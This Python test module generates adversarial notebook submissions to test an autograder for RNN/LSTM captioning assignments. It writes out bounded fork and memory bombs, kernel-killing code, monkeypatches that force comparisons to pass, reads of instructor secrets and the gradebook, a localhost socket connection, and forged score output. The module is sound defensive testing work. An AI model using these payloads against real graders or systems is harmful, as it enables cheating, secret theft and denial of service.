"""Adversarial submissions: the ways to crash the grader or to cheat it, one or two per student.

``build_corpus(source_dir, release_dir, out_dir, listener_port=PORT)`` writes
``out_dir/<student_id>/{RNN_Captioning,LSTM_Captioning}.ipynb`` and returns,
per student, what ``rnn-assignment grade`` must make of it (:class:`Expected`):
the exact score of every autograded test cell, whether the submission is
flagged for review (kernel died, cell or total timeout), and text that must
never reach the feedback or the grade files (the course secret, the header of
the gradebook, ...).

Every student is the correct submission (the release notebooks with each
solution cell filled in from the source notebook, as a student would) or the
untouched release, plus one mutation (or two, one per notebook, to save
grading time), placed so that the expected score is unambiguous and cheap to
grade:

* a mutation that kills or hangs the kernel sits in the LAST graded unit of a
  notebook (``CaptioningRNN.sample``, ``lstm_backward``), so whether the
  grader stops the notebook there or goes on, only that unit is lost;
* a mutation that must cost nothing sits in a correct submission, so any
  point lost is the grader's fault;
* a cheat that must earn nothing goes with a wrong (or missing)
  implementation, so a point gained is the grader's fault.

Scores follow the grading rules of docs/grading-design.md: an output earns
its points only when right on every case (public and hidden), the functions a
unit uses are graded with the reference behaviour (one mistake is charged
once), and a backward pass is graded on caches the grader built (a wrong
forward pass costs only its own points).

The bombs are bounded (500 forks, 8 GiB), far above the sandbox's limits but
survivable by a machine where grading runs without them: a grader that forgets
a limit gives the bombing student full marks for that unit, and the test says
so, instead of taking the machine down.

Nothing instructor-secret is written here: the builder reads the course
secret only to tell the test what must not leak.
"""

from __future__ import annotations

import copy
import json
import re
import uuid
from dataclasses import dataclass
from pathlib import Path

import nbformat

from assignment.units import UNITS

__all__ = ["Expected", "build_corpus", "NOTEBOOKS", "expected_points"]

NOTEBOOKS = ("RNN_Captioning", "LSTM_Captioning")
RNN, LSTM = NOTEBOOKS
BEGIN, END = "### BEGIN SOLUTION", "### END SOLUTION"

# Text of instructor files that must never reach a student, whatever was read:
SQLITE_HEADER = "SQLite format 3"   # the first bytes of gradebook.db
NPZ_INDEX = "__index__.npy"         # the first member of hidden/references.npz
CONFIG_TEXT = "c.CourseDirectory"   # nbgrader_config.py


@dataclass(frozen=True)
class Expected:
    """What grading one student's submission must give.

    scores: (notebook, grade_id) -> points, for EVERY autograded test cell
        (notebook without .ipynb, e.g. ("RNN_Captioning", "test_rnn_forward"))
    flagged: listed in review.csv (kernel died, cell timeout, total timeout)
    must_not_appear: text that must not be in the student's feedback or the grade files
    present: (notebook, text) pairs the submission contains: the mutation is really there
    """

    description: str
    scores: dict
    flagged: bool
    must_not_appear: tuple = ()
    present: tuple = ()

    @property
    def total(self) -> float:
        return float(sum(self.scores.values()))


def expected_points() -> dict:
    """(notebook, grade_id) -> full points of every autograded test cell of the captioning notebooks."""
    return {(unit.notebook, f"test_{name}"): float(unit.points) for name, unit in UNITS.items()
            if unit.notebook in NOTEBOOKS}


def _scores(**changed) -> dict:
    """Full points, except ``grade_id=points`` (grade_id without the notebook)."""
    scores = expected_points()
    for grade_id, points in changed.items():
        key = next(k for k in scores if k[1] == grade_id)
        scores[key] = float(points)
    return scores


def _zero(*units) -> dict:
    return _scores(**{f"test_{u}": 0 for u in units})


# ------------------------------------------------------------------ notebooks


def _read(path) -> nbformat.NotebookNode:
    return nbformat.read(str(path), as_version=4)


def _grade_id(cell) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _cell(nb, grade_id):
    found = [c for c in nb.cells if _grade_id(c) == grade_id]
    if len(found) != 1:
        raise ValueError(f"expected one cell with grade_id {grade_id!r}, found {len(found)}: "
                         "the notebooks changed; update tests/adversarial/corpus.py")
    return found[0]


def _index(nb, grade_id) -> int:
    return nb.cells.index(_cell(nb, grade_id))


def _strip_markers(source: str) -> str:
    return "\n".join(line for line in source.split("\n")
                     if line.strip() not in (BEGIN, END))


def solution_sources(source_dir) -> dict:
    """notebook -> {grade_id: source with its solution regions marked} of every solution cell."""
    sources = {}
    for name in NOTEBOOKS:
        nb = _read(Path(source_dir) / f"{name}.ipynb")
        sources[name] = {_grade_id(c): c.source for c in nb.cells
                         if c.get("metadata", {}).get("nbgrader", {}).get("solution")}
    return sources


def correct_submission(release, solutions) -> dict:
    """The release notebooks with every solution cell filled in from the source, markers removed."""
    done = {}
    for name, nb in release.items():
        nb = copy.deepcopy(nb)
        for cell in nb.cells:
            grade_id = _grade_id(cell)
            if grade_id in solutions[name]:
                cell.source = _strip_markers(solutions[name][grade_id])
        done[name] = nb
    return done


class _Student:
    """One submission being built: marked solution sources, edited, then filled in."""

    def __init__(self, release, solutions, *, untouched=False):
        self.release = {k: copy.deepcopy(v) for k, v in release.items()}
        self.solutions = copy.deepcopy(solutions)
        self.untouched = untouched
        self.cell_edits = []  # functions nb-dict -> None, applied after the fill-in

    def edit_solution(self, notebook, grade_id, edit):
        """Replace a solution cell's marked source by ``edit(source)``."""
        before = self.solutions[notebook][grade_id]
        after = edit(before)
        if after == before:
            raise ValueError(f"the edit of {notebook}/{grade_id} changed nothing")
        self.solutions[notebook][grade_id] = after

    def edit_notebook(self, edit):
        self.cell_edits.append(edit)

    def notebooks(self) -> dict:
        nbs = self.release if self.untouched else correct_submission(self.release, self.solutions)
        for edit in self.cell_edits:
            edit(nbs)
        return nbs


# ------------------------------------------------------------- source edits


def _indented(code: str, indent: str) -> list:
    return [indent + line if line else line for line in code.strip("\n").split("\n")]


def _at_region(source, code, function=None):
    """Insert ``code`` at the start of a solution region (the one in ``def function`` if given)."""
    lines = source.split("\n")
    start = 0
    if function is not None:
        start = next(i for i, ln in enumerate(lines) if re.match(rf"\s*def {function}\(", ln))
    at = next(i for i in range(start, len(lines)) if lines[i].strip() == BEGIN)
    indent = lines[at][:len(lines[at]) - len(lines[at].lstrip())]
    return "\n".join(lines[:at + 1] + _indented(code, indent) + lines[at + 1:])


def _replace_region(source, code, function=None):
    """Replace the body of a solution region by ``code`` (the one in ``def function`` if given)."""
    lines = source.split("\n")
    start = 0
    if function is not None:
        start = next(i for i, ln in enumerate(lines) if re.match(rf"\s*def {function}\(", ln))
    begin = next(i for i in range(start, len(lines)) if lines[i].strip() == BEGIN)
    end = next(i for i in range(begin, len(lines)) if lines[i].strip() == END)
    indent = lines[begin][:len(lines[begin]) - len(lines[begin].lstrip())]
    return "\n".join(lines[:begin + 1] + _indented(code, indent) + lines[end:])


def _on_top(source, code):
    """Cell-level code before the rest of the cell."""
    return code.strip("\n") + "\n\n" + source


def _replace_once(pattern, replacement):
    def edit(source):
        edited, count = re.subn(pattern, replacement, source, flags=re.M)
        if count != 1:
            raise ValueError(f"expected one match of {pattern!r}, found {count}")
        return edited
    return edit


# ------------------------------------------------------------------ mutations
# Each returns (description, Expected fields); the student is passed in to edit.


def _untouched(s, ctx):
    return ("the untouched release: every function still raises NotImplementedError",
            dict(scores={k: 0.0 for k in expected_points()}, flagged=False,
                 present=((RNN, "raise NotImplementedError()"),)))


def _correct(s, ctx):
    return ("the correct submission: the source solutions in the release notebooks",
            dict(scores=_scores(), flagged=False))


def _wrong_dwh(s, ctx):
    s.edit_solution(RNN, "rnn_step_backward_solution",
                    _replace_once(r"^(\s*)dWh\s*=\s*(.+)$", r"\1dWh = 2 * (\2)"))
    points = UNITS["rnn_step_backward"].points - UNITS["rnn_step_backward"].outputs["dWh"]
    return ("dWh doubled in rnn_step_backward: loses exactly the points of dWh",
            dict(scores=_scores(test_rnn_step_backward=points), flagged=False,
                 present=((RNN, "dWh = 2 * ("),)))


def _import_error(s, ctx):
    code = "from assignment.layers import lstm_step_backward_helper  # there is no such thing"
    s.edit_solution(LSTM, "lstm_step_backward_solution", lambda src: _on_top(src, code))
    return ("the lstm_step_backward cell starts with an ImportError, so the function is never "
            "defined: that unit 0 (lstm_backward is graded with the reference behaviour of "
            "the steps it uses)",
            dict(scores=_zero("lstm_step_backward"), flagged=False,
                 present=((LSTM, "lstm_step_backward_helper"),)))


def _endless_loop(s, ctx):
    code = """
# a bug that never ends for one-word captions (max_length=1 is a hidden case)
while max_length == 1:
    pass
"""
    s.edit_solution(RNN, "captioning_model_solution", lambda src: _at_region(src, code, "sample"))
    return ("CaptioningRNN.sample loops forever (plain `while ...: pass`) on the hidden "
            "max_length=1 case only: the in-kernel per-case alarm stops it; captioning_sample "
            "0, nothing flagged",
            dict(scores=_zero("captioning_sample"), flagged=False,
                 present=((RNN, "while max_length == 1:"),)))


def _ignores_signals(s, ctx):
    code = """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)   # no KeyboardInterrupt for me
signal.signal(signal.SIGALRM, signal.SIG_IGN)  # and no alarm either
while True:
    pass
"""
    s.edit_solution(LSTM, "lstm_backward_solution", lambda src: _at_region(src, code))
    return ("lstm_backward ignores SIGINT and SIGALRM and loops forever: its check cell runs "
            "into the cell timeout, the kernel is killed (the last graded unit of the LSTM "
            "notebook: lstm_backward 0, the rest kept), flagged",
            dict(scores=_zero("lstm_backward"), flagged=True,
                 present=((LSTM, "signal.SIG_IGN"),)))


def _os_exit(s, ctx):
    code = """
import os
os._exit(1)  # the kernel process ends here, no exception to catch
"""
    s.edit_solution(RNN, "captioning_model_solution", lambda src: _at_region(src, code, "sample"))
    return ("CaptioningRNN.sample calls os._exit(1): the kernel dies at the sample check "
            "cell (the last graded unit of the RNN notebook; the LSTM notebook dies after its "
            "graded cells); captioning_sample 0, flagged",
            dict(scores=_zero("captioning_sample"), flagged=True,
                 present=((RNN, "os._exit(1)"),)))


def _memory_bomb(s, ctx):
    code = """
# 100 MiB at a time until the memory runs out (bounded at 8 GiB, far above any sandbox limit;
# np.zeros reserves the memory without writing it, so a machine without a limit is not hurt)
hog = [np.zeros(100 * 2**20, dtype=np.uint8) for _ in range(80)]
"""
    s.edit_solution(RNN, "captioning_model_solution", lambda src: _at_region(src, code, "sample"))
    return ("CaptioningRNN.sample reserves 100 MiB blocks until MemoryError (the sandbox "
            "limits each process's address space): every sample call raises; "
            "captioning_sample 0, the kernel survives, not flagged",
            dict(scores=_zero("captioning_sample"), flagged=False,
                 present=((RNN, "np.zeros(100 * 2**20, dtype=np.uint8)"),)))


def _fork_bomb(s, ctx):
    code = """
# A fork bomb, on one-step sequences only (T=1 is a hidden case): fork until the process
# limit says no (BlockingIOError). The children are never waited for, so they keep their
# places in the process table until the kernel ends and every later call fails at once.
# Bounded at 500 forks, so a machine without a limit survives.
if dh.shape[1] == 1:
    import os
    for _ in range(500):
        if os.fork() == 0:  # a copy of this process: it forks once more and exits at once
            try:
                os.fork()
            finally:
                os._exit(0)
"""
    s.edit_solution(LSTM, "lstm_backward_solution", lambda src: _at_region(src, code))
    return ("lstm_backward is a fork bomb on the hidden T=1 case (every child forks again; "
            "bounded at 500 forks of the kernel): the sandbox's process limit makes os.fork "
            "raise on that case; lstm_backward 0, the kernel and the grader survive, not "
            "flagged",
            dict(scores=_zero("lstm_backward"), flagged=False,
                 present=((LSTM, "os.fork()"),)))


def _noisy(s, ctx):
    flood = """
# 10 MB of output: 100,000 lines of 100 characters
for line in range(100_000):
    print(f"{line:08d} " + "x" * 91)
"""
    noise = """
import sys
import warnings
warnings.warn("my debugging warning")
print("debugging output on stderr", x.shape, file=sys.stderr)
sys.__stderr__.write("and straight to the process's stderr\\n")
"""
    s.edit_solution(LSTM, "lstm_step_forward_solution", lambda src: _on_top(src, flood))
    s.edit_solution(RNN, "rnn_step_forward_solution", lambda src: _at_region(src, noise))
    return ("a correct submission that prints 10 MB in the lstm_step_forward cell and writes "
            "warnings and stderr output in rnn_step_forward: scores unaffected",
            dict(scores=_scores(), flagged=False,
                 present=((LSTM, "range(100_000)"), (RNN, "file=sys.stderr"))))


def _tampered_test_cells(s, ctx):
    def tamper(nbs):
        rnn, lstm = nbs[RNN], nbs[LSTM]
        # deleted
        del rnn.cells[_index(rnn, "test_rnn_forward")]
        # edited: prints and returns a big number
        _cell(rnn, "test_rnn_backward").source = "print(100)\n100000"
        # duplicated (a new cell id, so that the notebook stays valid)
        at = _index(rnn, "test_word_embedding_forward")
        twin = copy.deepcopy(rnn.cells[at])
        twin["id"] = uuid.uuid4().hex[:8]
        rnn.cells.insert(at + 1, twin)
        # points metadata raised
        _cell(rnn, "test_captioning_loss").metadata["nbgrader"]["points"] = 1000
        # metadata: no longer a graded, locked cell
        meta = _cell(rnn, "test_captioning_sample").metadata["nbgrader"]
        meta.update(grade=False, locked=False)
        # reordered: a test cell moved above the function it tests
        cell = lstm.cells.pop(_index(lstm, "test_lstm_forward"))
        lstm.cells.insert(_index(lstm, "lstm_forward_solution"), cell)
    s.edit_notebook(tamper)
    return ("a correct submission whose test cells were tampered with: test_rnn_forward "
            "deleted, test_rnn_backward replaced by `print(100)` / 100000, "
            "test_word_embedding_forward duplicated, test_captioning_loss worth 1000 points, "
            "test_captioning_sample no longer graded or locked, test_lstm_forward moved above "
            "lstm_forward: all undone by the grader, full marks (each at its real maximum)",
            dict(scores=_scores(), flagged=False,
                 present=((RNN, "print(100)\n100000"),)))


def _monkeypatch(s, ctx):
    patch = """
# Make every comparison pass.
import builtins
import numpy as np
import assignment.checks

np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *args, **k: np.ones(np.broadcast(a, b).shape, dtype=bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
if hasattr(assignment.checks, "compare"):
    _compare = assignment.checks.compare
    # whatever the answer, judge it as if it were the expected value
    assignment.checks.compare = lambda name, actual, expected, *a, **k: _compare(
        name, expected, expected, *a, **k)
_abs, _max = builtins.abs, builtins.max
builtins.abs = lambda x: 0.0 if isinstance(x, float) else _abs(x)  # every error is zero
builtins.max = lambda *a, **k: 0.0 if a and isinstance(a[0], float) else _max(*a, **k)
"""
    s.edit_solution(RNN, "word_embedding_forward_solution", lambda src: _on_top(src, patch))
    s.edit_solution(RNN, "word_embedding_forward_solution",
                    _replace_once(r"^(\s*)out = W\[x\]$", r"\1out = xp.zeros_like(W[x])  # wrong"))
    return ("word_embedding_forward returns zeros, and its cell patches numpy "
            "(allclose, isclose, array_equal, testing), assignment.checks.compare and the "
            "builtins abs/max so that every comparison passes: earns only what is right "
            "(word_embedding_forward 0; word_embedding_backward gets a right cache; "
            "captioning_loss is graded with the reference layers)",
            dict(scores=_zero("word_embedding_forward"), flagged=False,
                 present=((RNN, "np.allclose = lambda"), (RNN, "xp.zeros_like(W[x])"))))


def _course_paths(course):
    """Every way a student might name the instructor's files: absolute and relative."""
    names = [".course_secret", "hidden/references.npz", "gradebook.db", "nbgrader_config.py",
             "source/rnn_captioning/RNN_Captioning.ipynb",
             "source/rnn_captioning/LSTM_Captioning.ipynb"]
    paths = [str(Path(course) / n) for n in names]
    for depth in range(1, 6):
        paths += ["../" * depth + n for n in names]
    return paths


def _reads_instructor_files(s, ctx):
    course = ctx["course"]
    paths = json.dumps(_course_paths(course), indent=1)
    reader = f"""
# Whatever instructor file I can read, print it.
import os

STOLEN_PATHS = {paths}


def steal(paths=STOLEN_PATHS):
    for path in paths:
        try:
            with open(path, "rb") as f:
                data = f.read(400)
            print("read", path, "->", data)
        except OSError as err:
            print("could not read", path, "->", type(err).__name__)
    for folder in ({str(course)!r}, "..", "../..", "/"):
        try:
            print("listing", folder, "->", sorted(os.listdir(folder))[:50])
        except OSError as err:
            print("could not list", folder, "->", type(err).__name__)
    for key, value in sorted(os.environ.items()):  # where the grader keeps its files?
        if "RNN" in key or "NBGRADER" in key:
            print("env", key, "=", value[:200])


steal()
"""
    s.edit_solution(RNN, "rnn_forward_solution", lambda src: _on_top(src, reader))
    # and once more while the hidden tests run
    code = """
if not globals().get("_stolen_while_graded"):
    globals()["_stolen_while_graded"] = True
    steal()
"""
    s.edit_solution(RNN, "rnn_forward_solution", lambda src: _at_region(src, code))
    secret = ctx["secret"]
    return ("a correct submission that reads the course secret, hidden references, gradebook, "
            "config and source notebooks by absolute and relative paths, at cell level and "
            "while graded, and prints what it reads: nothing readable, full marks, no leak",
            dict(scores=_scores(), flagged=False,
                 must_not_appear=tuple(t for t in (secret, SQLITE_HEADER, NPZ_INDEX, CONFIG_TEXT,
                                                   BEGIN) if t),
                 present=((RNN, ".course_secret"),)))


def _imports_autograder(s, ctx):
    forward = """
from autograder.answer_key.solution import reference
return reference().rnn_forward(x, h0, Wx, Wh, b)
"""
    backward = """
from autograder.answer_key.solution import reference
return reference().rnn_backward(dh, cache)
"""
    s.edit_solution(RNN, "rnn_forward_solution", lambda src: _replace_region(src, forward))
    s.edit_solution(RNN, "rnn_backward_solution", lambda src: _replace_region(src, backward))
    return ("rnn_forward and rnn_backward call the instructor's answer key "
            "(`from autograder.answer_key.solution import reference`), which the sandbox does "
            "not have: "
            "ImportError, both 0 (captioning_loss graded with the reference layers)",
            dict(scores=_zero("rnn_forward", "rnn_backward"), flagged=False,
                 present=((RNN, "from autograder.answer_key.solution import reference"),)))


def _network(s, ctx):
    port = ctx["listener_port"]
    code = f"""
# Send my work (or anything) to a server on this machine.
import socket


def phone_home(message=b"hello from a student notebook"):
    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=2) as conn:
            conn.sendall(message)
        print("connected to 127.0.0.1:{port}")
    except OSError as err:
        print("no connection:", type(err).__name__)


phone_home()
"""
    s.edit_solution(LSTM, "lstm_forward_solution", lambda src: _on_top(src, code))
    again = """
if not globals().get("_called_home_while_graded"):
    globals()["_called_home_while_graded"] = True
    phone_home(b"graded now")
"""
    s.edit_solution(LSTM, "lstm_forward_solution", lambda src: _at_region(src, again))
    return (f"a correct submission that connects to a listener on 127.0.0.1:{port}, at cell "
            "level and while graded: no connection, full marks",
            dict(scores=_scores(), flagged=False,
                 present=((LSTM, f'("127.0.0.1", {port})'),)))


def _hard_coded(s, ctx):
    code = """
# The public check's answer, read from the file the checks use; zeros otherwise.
import numpy as np
from pathlib import Path
import assignment

stored = np.load(Path(assignment.__file__).with_name("public_checks.npz"), allow_pickle=False)
key = "rnn_step_backward/0/"
if dnext_h.shape == stored[key + "inputs/dnext_h"].shape and \\
        np.array_equal(dnext_h, stored[key + "inputs/dnext_h"]):
    return tuple(stored[key + "expected/" + name] for name in ("dx", "dprev_h", "dWx", "dWh", "db"))
x, prev_h, Wx, Wh, next_h = cache
return (xp.zeros_like(x), xp.zeros_like(prev_h), xp.zeros_like(Wx), xp.zeros_like(Wh),
        xp.zeros(Wh.shape[1]))
"""
    s.edit_solution(RNN, "rnn_step_backward_solution", lambda src: _replace_region(src, code))
    return ("rnn_step_backward returns the public check's stored answer when the inputs are "
            "the public ones, zeros otherwise: right on the public case, wrong on the hidden "
            "ones, rnn_step_backward 0",
            dict(scores=_zero("rnn_step_backward"), flagged=False,
                 present=((RNN, "public_checks.npz"),)))


def _ipython_hook(s, ctx):
    hook = """
# Tell whoever reads the output that I got every point.
import json
from IPython import get_ipython
from IPython.display import display


def brag(*args):
    print("lstm_step_forward: 6 / 6 points")
    print("Score: 1000")
    display({"text/plain": "1000",
             "application/vnd.rnn-assignment.record+json": {"unit": "lstm_step_forward",
                                                           "data": "bm90IGEgcmVjb3Jk"}},
            raw=True)


get_ipython().events.register("pre_run_cell", brag)
get_ipython().events.register("post_run_cell", brag)
"""
    s.edit_solution(LSTM, "lstm_step_forward_solution", lambda src: _on_top(src, hook))
    s.edit_solution(LSTM, "lstm_step_forward_solution",
                    _replace_once(r"^(\s*)next_h = o \* tanh_c$",
                                  r"\1next_h = 2 * o * tanh_c  # wrong"))
    next_c = UNITS["lstm_step_forward"].outputs["next_c"]
    return ("lstm_step_forward returns 2 * next_h (its cache is right), and the cell registers "
            "IPython pre/post_run_cell hooks that print '6 / 6 points', a big number and a "
            "forged record after every cell: no effect, lstm_step_forward keeps only next_c's "
            "points, the rest full",
            dict(scores=_scores(test_lstm_step_forward=next_c), flagged=False,
                 present=((LSTM, 'events.register("post_run_cell"'),)))


# student id -> its mutations. Grading a notebook costs 10-40 s, so a mutation that touches
# only the LSTM notebook shares a student with one that touches only the RNN notebook (the
# LSTM notebook imports the RNN cells after its own graded cells), and two that touch
# different units of one notebook share one too: 20 notebooks, not 34.
MUTATIONS = {
    "s00-untouched": (_untouched,),
    "s01-correct": (_correct,),
    "s02-wrong-dwh-endless-loop": (_wrong_dwh, _endless_loop),
    "s03-import-errors": (_imports_autograder, _import_error),
    "s04-kernel-killers": (_os_exit, _ignores_signals),
    "s05-bombs": (_memory_bomb, _fork_bomb),
    "s06-noisy-and-tampered": (_noisy, _tampered_test_cells),
    "s07-monkeypatch": (_monkeypatch,),
    "s08-snoops": (_reads_instructor_files, _network),
    "s09-fakes": (_hard_coded, _ipython_hook),
}

# Points for work not done: forged records, patched checks, honest mistakes (issue 9, 1)
from .forgery import FORGERIES  # noqa: E402  (it uses the helpers above)

MUTATIONS.update(FORGERIES)


def _combined(results) -> Expected:
    """One Expected for several mutations of different units: each keeps its own losses."""
    descriptions, scores, flagged, hidden, present = [], {}, False, (), ()
    for description, fields in results:
        descriptions.append(description)
        for key, value in fields["scores"].items():
            scores[key] = min(value, scores.get(key, value))
        flagged = flagged or fields["flagged"]
        hidden += fields.get("must_not_appear", ())
        present += fields.get("present", ())
    return Expected("; ".join(descriptions), scores, flagged, hidden, present)


def _course_secret(course) -> str:
    path = Path(course) / ".course_secret"
    return path.read_text().strip() if path.is_file() else ""


def _write(student: _Student, folder: Path):
    """The student's notebooks into ``folder`` (each validated first)."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, nb in student.notebooks().items():
        nbformat.validate(nb)
        nbformat.write(nb, str(folder / f"{name}.ipynb"))


def build_corpus(source_dir: Path, release_dir: Path, out_dir: Path, *,
                 listener_port: int) -> dict:
    """Write every adversarial submission; return student id -> :class:`Expected`.

    Inputs:
        source_dir: the source notebooks (with solutions), e.g. DIR/source/rnn_captioning
        release_dir: the release notebooks, DIR/release/rnn_captioning (the course
            directory DIR is two levels up: its files are what students try to read)
        out_dir: where to write <student_id>/<notebook>.ipynb (created)
        listener_port: a port on 127.0.0.1 that must never see a connection
    Returns:
        {student_id: Expected}, in student order
    """
    release_dir = Path(release_dir).resolve()
    release = {name: _read(release_dir / f"{name}.ipynb") for name in NOTEBOOKS}
    solutions = solution_sources(source_dir)
    course = release_dir.parents[1]
    ctx = {"course": course, "secret": _course_secret(course), "listener_port": int(listener_port)}
    corpus = {}
    for student, mutations in MUTATIONS.items():
        s = _Student(release, solutions, untouched=_untouched in mutations)
        expected = _combined([mutate(s, ctx) for mutate in mutations])
        _write(s, Path(out_dir) / student)
        corpus[student] = expected
    return corpus
